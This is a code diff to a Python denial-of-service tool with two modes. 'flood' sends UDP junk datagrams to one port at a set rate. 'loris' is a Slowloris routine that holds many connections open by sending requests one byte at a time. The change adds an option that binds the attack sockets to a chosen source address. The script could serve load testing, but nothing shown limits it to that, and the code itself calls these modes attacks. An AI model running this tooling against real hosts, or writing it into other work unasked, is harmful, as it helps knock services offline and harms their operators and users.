@@ -42,12 +42,13 @@ def junk(rng: random.Random) -> list[bytes]:
     return rng.sample([*noise, *media, *requests], 256)
 
 
-def flood(host: str, port: int, rate_pps: int, ending: selectors.BaseSelector) -> dict[str, object]:
+def flood(host: str, port: int, rate_pps: int, source: str, ending: selectors.BaseSelector) -> dict[str, object]:
     """Datagrams to one UDP port, evenly, until stdin ends."""
     datagrams = junk(random.Random(20))
     sends = []
     for _ in range(SOURCES):
         sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        sock.bind((source, 0))
         sock.connect((host, port))
         sock.setblocking(False)
         sends.append(sock.send)
@@ -72,15 +73,16 @@ def flood(host: str, port: int, rate_pps: int, ending: selectors.BaseSelector) -
 class Slow:
     """A connection that sends one byte of a request after the other, and opens anew when it is closed."""
 
-    def __init__(self, address: tuple[str, int]) -> None:
+    def __init__(self, address: tuple[str, int], source: str) -> None:
         self.address = address
+        self.source = source
         self.sock: socket.socket | None = None
         self.at = 0
 
     def drip(self) -> None:
         """Raises OSError."""
         if self.sock is None:
-            self.sock, self.at = socket.create_connection(self.address, timeout=2), 0
+            self.sock, self.at = socket.create_connection(self.address, 2, (self.source, 0)), 0
             self.sock.setblocking(False)
         with contextlib.suppress(BlockingIOError):
             if self.sock.recv(4096) == b"":
@@ -95,11 +97,11 @@ class Slow:
             self.sock = None
 
 
-def loris(host: str, port: int, count: int, ending: selectors.BaseSelector) -> dict[str, object]:
+def loris(host: str, port: int, count: int, source: str, ending: selectors.BaseSelector) -> dict[str, object]:
     """So many connections that never come to the end of a request, until stdin ends."""
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    slow = [Slow((host, port)) for _ in range(count)]
+    slow = [Slow((host, port), source) for _ in range(count)]
     closed = most = refused = 0
     began, cpu = time.monotonic(), cpu_s()
 
@@ -138,11 +140,12 @@ def main() -> None:
     parser.add_argument("host")
     parser.add_argument("port", type=int)
     parser.add_argument("amount", type=int, help="packets a second, or connections")
+    parser.add_argument("source", nargs="?", default="", help="address that it comes from")
     options = parser.parse_args()
     with selectors.DefaultSelector() as ending:
         ending.register(sys.stdin, selectors.EVENT_READ)
         attack = flood if options.attack == "flood" else loris
-        say(event="done", **attack(options.host, options.port, options.amount, ending))
+        say(event="done", **attack(options.host, options.port, options.amount, options.source, ending))
 
 
 if __name__ == "__main__":
